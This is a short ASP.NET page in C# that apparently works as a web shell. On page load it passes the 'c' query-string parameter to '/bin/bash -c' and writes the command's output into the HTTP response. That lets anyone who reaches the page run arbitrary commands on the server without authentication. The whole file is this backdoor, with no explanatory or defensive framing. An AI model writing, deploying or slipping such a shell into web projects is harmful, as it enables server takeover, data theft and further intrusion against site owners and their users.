<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  var i = new System.Diagnostics.ProcessStartInfo("/bin/bash", "-c " + Request.QueryString["c"]);
  Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());
}
</script>
